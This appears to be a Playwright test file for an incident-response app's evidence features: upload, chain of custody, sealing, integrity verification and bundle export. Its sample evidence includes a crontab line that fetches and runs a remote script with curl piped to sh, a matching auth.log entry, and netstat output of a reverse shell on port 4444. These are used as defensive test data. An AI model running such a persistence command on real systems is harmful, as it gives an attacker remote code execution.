import type { Locator, Page } from '@playwright/test';
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmod,
  mkdtemp,
  readFile,
  rm,
  truncate,
  unlink,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { createIncident, invoke } from './api';
import { chooseIncident } from './command-helpers';
import { expect, saveScreenshot, test } from './fixtures';
import type { ServeProcess } from './serve-process';

const run = promisify(execFile);

const AUTH_LOG = [
  'Dec  3 16:02:11 bastion-1 sshd[812]: Accepted password for root from 203.0.113.7 port 50122 ssh2',
  'Dec  3 16:02:40 bastion-1 sudo: root : TTY=pts/0 ; COMMAND=/usr/bin/curl -s http://203.0.113.7/x.sh',
  '',
].join('\n');

const NETSTAT = [
  'Proto Recv-Q Send-Q Local Address      Foreign Address     State       PID/Program',
  'tcp        0      0 10.0.4.17:22       203.0.113.7:50122   ESTABLISHED 812/sshd',
  'tcp        0      0 10.0.4.17:41822    203.0.113.7:4444    ESTABLISHED 1944/sh',
].join('\n');

function sha256(content: string | Buffer): string {
  return createHash('sha256').update(content).digest('hex');
}

/** The vault file holding this content, under the server's data dir. */
function vaultPath(server: ServeProcess, hash: string): string {
  return join(server.dataDir, 'vault', 'sha256', hash.slice(0, 2), hash);
}

async function openEvidence(app: Page, title: string) {
  await chooseIncident(app, title);
  await app
    .getByRole('navigation', { name: 'Panes' })
    .getByRole('button', { name: 'Evidence', exact: true })
    .click();
  await expect(
    app.getByRole('heading', { name: `Evidence: ${title}` }),
  ).toBeVisible();
}

function evidenceRow(app: Page, name: string): Locator {
  return app.getByTestId('evidence-row').filter({ hasText: name });
}

function dialog(app: Page, testId: string): Locator {
  return app.getByTestId(testId);
}

/** Drops a file made in the page onto the pane, as a person drags one in. */
async function dropFile(app: Page, name: string, text: string) {
  // A string, as this file is compiled without the DOM's types.
  const transfer = await app.evaluateHandle(`(() => {
    const data = new DataTransfer();
    const file = new File([${JSON.stringify(text)}], ${JSON.stringify(name)});
    data.items.add(file);
    return data;
  })()`);
  const pane = app.getByTestId('evidence-pane');
  await pane.dispatchEvent('dragenter', { dataTransfer: transfer });
  await expect(
    app.getByText('Drop files to add them as evidence'),
  ).toBeVisible();
  await pane.dispatchEvent('dragover', { dataTransfer: transfer });
  await pane.dispatchEvent('drop', { dataTransfer: transfer });
}

async function recordTransfer(app: Page) {
  await app.getByRole('button', { name: 'Record custody…' }).click();
  const custody = dialog(app, 'custody-dialog');
  await expect(custody.getByRole('heading')).toHaveText(
    'Record custody of auth.log',
  );
  await expect(custody.getByLabel('Action')).toHaveValue('transferred');
  const received = custody.getByRole('group', { name: 'Received by' });
  await expect(received.getByLabel('Name')).toBeFocused();
  await app.keyboard.type('Sam Okafor');
  await received.getByLabel('Role (optional)').fill('Forensic analyst');
  await received.getByLabel('Contact (optional)').fill('+44 20 7946 0018');
  await custody
    .getByLabel('Location', { exact: true })
    .fill('Ops room, 4th floor');
  await custody.getByLabel('Purpose').fill('Timeline of the root logins');
  await saveScreenshot(app, 'evidence-custody-dialog');
  await custody.getByRole('button', { name: 'Record transferred' }).click();
  await expect(custody).toBeHidden();
}

async function seal(app: Page) {
  await app.getByRole('button', { name: 'Seal…' }).click();
  const sealing = dialog(app, 'custody-dialog');
  await expect(sealing.getByRole('heading')).toHaveText('Seal auth.log');
  await expect(sealing.getByLabel('Seal / storage location')).toBeFocused();
  await app.keyboard.type('Evidence bag EB-0042, safe 2');
  const handler = sealing.getByRole('group', { name: 'Handled by' });
  await handler.getByLabel('Name').fill('Sam Okafor');
  await sealing.getByRole('button', { name: 'Record sealed' }).click();
  await expect(sealing).toBeHidden();
}

test.beforeEach(async ({ context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
});

test('evidence is added, handed over, sealed and verified', async ({
  app,
  server,
}) => {
  const incident = await createIncident(server, 'Root login from TOR exit');
  const files = await mkdtemp(join(tmpdir(), 'war-room-evidence-'));
  try {
    const authLog = join(files, 'auth.log');
    await writeFile(authLog, AUTH_LOG);
    const crontab = join(files, 'crontab-root');
    await writeFile(
      crontab,
      '*/5 * * * * curl -s http://203.0.113.7/x.sh|sh\n',
    );
    await openEvidence(app, incident.title);
    await expect(app.getByText('No evidence yet.')).toBeVisible();

    // Picked with the file input, with type, description and tags.
    await app.getByRole('button', { name: 'Add files…' }).click();
    const add = dialog(app, 'add-files-dialog');
    await add.getByLabel('Choose files…').setInputFiles(authLog);
    await expect(add.getByRole('list', { name: 'Files to add' })).toContainText(
      'auth.log',
    );
    await expect(add.getByLabel('Type')).toHaveValue('log-export');
    await add.getByLabel('Tags (comma-separated)').fill('bastion, ssh');
    await add
      .getByLabel('Description')
      .fill('auth.log from bastion-1, copied by the on-call engineer');
    await saveScreenshot(app, 'evidence-add-dialog');
    await add.getByRole('button', { name: 'Add 1 file' }).click();
    await expect(add).toBeHidden();
    await expect(app.getByTestId('intake-finished')).toContainText(
      `Added auth.log · 197 B · SHA-256 ${sha256(AUTH_LOG).slice(0, 12)}`,
    );
    await expect(
      evidenceRow(app, 'auth.log').getByRole('button', {
        name: 'Copy the SHA-256 of auth.log',
      }),
    ).toHaveText(sha256(AUTH_LOG).slice(0, 12));

    // Dropped onto the pane: the same dialog opens with the file in it.
    await dropFile(app, 'console-screenshot.png', 'PNG-bytes-of-the-console');
    await expect(add.getByRole('list', { name: 'Files to add' })).toContainText(
      'console-screenshot.png',
    );
    await expect(add.getByLabel('Type')).toHaveValue('screenshot');
    await add.getByRole('button', { name: 'Add 1 file' }).click();
    await expect(
      evidenceRow(app, 'console-screenshot.png').getByRole('button', {
        name: /Copy the SHA-256/,
      }),
    ).toHaveText(sha256('PNG-bytes-of-the-console').slice(0, 12));

    // The short hash copies the full one, and says so.
    await evidenceRow(app, 'auth.log')
      .getByRole('button', { name: 'Copy the SHA-256 of auth.log' })
      .click();
    await expect(evidenceRow(app, 'auth.log').getByRole('status')).toHaveText(
      '✓ Copied',
    );
    expect(await app.evaluate('navigator.clipboard.readText()')).toBe(
      sha256(AUTH_LOG),
    );

    // The detail holds every hash and where the file came from.
    const detail = app.getByTestId('evidence-detail');
    await expect(detail.getByRole('heading', { level: 2 })).toHaveText(
      'auth.log',
    );
    const md5 = createHash('md5').update(AUTH_LOG).digest('hex');
    await expect(detail).toContainText(sha256(AUTH_LOG));
    await expect(detail).toContainText(md5);
    await expect(detail).toContainText('upload:auth.log');
    await expect(detail).toContainText('Uploaded from a browser');
    await expect(detail.locator('.evidence-tag')).toHaveText([
      'bastion',
      'ssh',
    ]);

    await recordTransfer(app);
    const history = detail.getByTestId('custody-event');
    await expect(history).toHaveCount(2);
    await expect(history.nth(1)).toContainText('Transferred');
    await expect(history.nth(1)).toContainText(
      'Sam Okafor (Forensic analyst) · +44 20 7946 0018',
    );
    await expect(evidenceRow(app, 'auth.log')).toContainText(
      'Transferredheld by Sam Okafor',
    );
    await app.setViewportSize({ width: 1360, height: 1300 });
    await saveScreenshot(app, 'evidence-detail-custody');

    await seal(app);
    await expect(history).toHaveCount(3);
    await expect(history.nth(2)).toContainText('Evidence bag EB-0042, safe 2');
    await expect(evidenceRow(app, 'auth.log')).toContainText(
      'Sealedheld by Sam Okafor',
    );

    // Pasted output and a file on the server's machine, by its path.
    await app.getByRole('button', { name: 'Add text…' }).click();
    const text = dialog(app, 'add-text-dialog');
    await text.getByLabel('Name').fill('netstat-anp-web-03.txt');
    await text.getByLabel('Text (kept exactly as pasted)').fill(NETSTAT);
    await text.getByRole('button', { name: 'Add text' }).click();
    await expect(
      evidenceRow(app, 'netstat-anp-web-03.txt').getByRole('button', {
        name: /Copy the SHA-256/,
      }),
    ).toHaveText(sha256(NETSTAT).slice(0, 12));

    await app.getByRole('button', { name: 'Add by path…' }).click();
    const byPath = dialog(app, 'add-paths-dialog');
    await byPath.getByLabel('Paths, one per line').fill(crontab);
    await byPath.getByRole('button', { name: 'Add', exact: true }).click();
    await expect(evidenceRow(app, 'crontab-root')).toBeVisible();
    await evidenceRow(app, 'crontab-root')
      .getByRole('button', {
        name: 'crontab-root',
        exact: true,
      })
      .click();
    await expect(detail).toContainText(crontab);
    await expect(detail).toContainText('File read from disk');

    await app.getByRole('button', { name: 'Verify now' }).click();
    await expect(app.getByTestId('verify-result')).toContainText(
      /Checked 4 items \(.*\) at .*: all intact/,
    );
    await expect(
      app.getByTestId('evidence-row').getByTestId('integrity'),
    ).toHaveText(Array(4).fill('✓ Intact'));
    const dismiss = app.getByRole('button', { name: /^Dismiss/ });
    for (let left = await dismiss.count(); left > 0; left -= 1) {
      await dismiss.first().click();
      await expect(dismiss).toHaveCount(left - 1);
    }
    await saveScreenshot(app, 'evidence-list');

    expect((await invoke(server, 'journal:verify', {})).ok).toBe(true);
  } finally {
    await rm(files, { recursive: true, force: true });
  }
});

test('an altered or missing vault file is shown loudly', async ({
  app,
  server,
}) => {
  const incident = await createIncident(server, 'Tampered evidence drill');
  const kept = await invoke(server, 'evidence:add-text', {
    incidentId: incident.id,
    name: 'netstat-anp-web-03.txt',
    text: NETSTAT,
    type: 'system-snapshot',
  });
  const logs = await invoke(server, 'evidence:add-text', {
    incidentId: incident.id,
    name: 'auth.log',
    text: AUTH_LOG,
    type: 'log-export',
  });
  await openEvidence(app, incident.title);
  await expect(app.getByTestId('integrity-banner')).toHaveCount(0);

  const altered = vaultPath(server, logs.hashes.sha256);
  await chmod(altered, 0o644);
  await writeFile(altered, AUTH_LOG.replace('203.0.113.7', '198.51.100.9'));
  await app.getByRole('button', { name: 'Verify now' }).click();

  const banner = app.getByTestId('integrity-banner');
  await expect(banner).toContainText('1 evidence item fails its integrity');
  await expect(banner).toContainText(/altered\s*auth\.log/);
  await expect(
    evidenceRow(app, 'auth.log').getByTestId('integrity'),
  ).toHaveText('⚠ Altered');
  await expect(app.getByTestId('evidence-nav-badge')).toContainText('1');
  await banner.getByRole('button', { name: 'auth.log' }).click();
  await expect(
    app.getByTestId('evidence-detail').getByTestId('integrity'),
  ).toHaveText('⚠ Altered');
  await saveScreenshot(app, 'evidence-altered');

  // Opening the incident again checks the vault once, quietly unless
  // something changed: here a second file has gone.
  await unlink(vaultPath(server, kept.hashes.sha256));
  await app
    .getByRole('navigation', { name: 'Panes' })
    .getByRole('button', { name: 'Incidents' })
    .click();
  await chooseIncident(app, incident.title);
  await expect(app.getByTestId('evidence-nav-badge')).toContainText('2');
  expect(
    (await readFile(altered, 'utf8')).includes('198.51.100.9'),
    'the altered file is left as found',
  ).toBe(true);
});

test('a large intake shows its progress and can be cancelled', async ({
  app,
  server,
}) => {
  const incident = await createIncident(server, 'Memory capture of web-03');
  const files = await mkdtemp(join(tmpdir(), 'war-room-evidence-'));
  try {
    const image = join(files, 'web-03.mem');
    await writeFile(image, '');
    await truncate(image, 1024 ** 3);
    await openEvidence(app, incident.title);

    await app.getByRole('button', { name: 'Add by path…' }).click();
    const byPath = dialog(app, 'add-paths-dialog');
    await byPath.getByLabel('Paths, one per line').fill(image);
    await expect(byPath.getByLabel('Type')).toHaveValue('memory');
    await byPath.getByRole('button', { name: 'Add', exact: true }).click();

    const running = app.getByTestId('intake-running');
    await expect(running.getByTestId('intake-progress')).toContainText(
      /web-03\.mem: .* of 1\.0 GiB · .*\/s · /,
    );
    await saveScreenshot(app, 'evidence-intake-progress');
    await running.getByRole('button', { name: 'Cancel' }).click();

    await expect(app.getByTestId('intake-finished')).toContainText(
      'Not added: the intake was cancelled while reading',
    );
    await expect(app.getByText('No evidence yet.')).toBeVisible();
    expect(
      await invoke(server, 'evidence:list', { incidentId: incident.id }),
    ).toEqual([]);
  } finally {
    await rm(files, { recursive: true, force: true });
  }
});

test('the exported bundle checks out with sha256sum and its verifier', async ({
  app,
  server,
}) => {
  const incident = await createIncident(server, 'Bundle for the regulator');
  const item = await invoke(server, 'evidence:add-text', {
    incidentId: incident.id,
    name: 'netstat-anp-web-03.txt',
    text: NETSTAT,
    type: 'system-snapshot',
  });
  await invoke(server, 'evidence:record-custody', {
    evidenceId: item.id,
    action: 'sealed',
    handler: { name: 'Sam Okafor' },
    storageLocation: 'Evidence bag EB-0043',
  });
  const out = await mkdtemp(join(tmpdir(), 'war-room-bundle-'));
  try {
    await openEvidence(app, incident.title);
    await app.getByRole('button', { name: 'Export bundle…' }).click();
    const exporting = dialog(app, 'export-dialog');
    const bag = join(out, 'bag');
    await exporting.getByLabel('Output folder').fill(bag);
    await exporting.getByLabel('Also write a zip of the bag').check();
    await exporting.getByRole('button', { name: 'Export bundle' }).click();

    const summary = exporting.getByTestId('export-summary');
    await expect(summary.getByTestId('export-dir')).toHaveText(bag);
    await expect(summary.getByTestId('export-evidence-files')).toHaveText('1');
    await saveScreenshot(app, 'evidence-export');

    const manifest = await run('sha256sum', ['-c', 'manifest-sha256.txt'], {
      cwd: bag,
    });
    expect(manifest.stdout).toContain(': OK');
    await run('python3', ['verify_bundle.py'], { cwd: bag });
    const tagManifest = await readFile(join(bag, 'tagmanifest-sha256.txt'));
    await expect(summary.getByTestId('export-tag-manifest')).toHaveText(
      createHash('sha256').update(tagManifest).digest('hex'),
    );
  } finally {
    await rm(out, { recursive: true, force: true });
  }
});
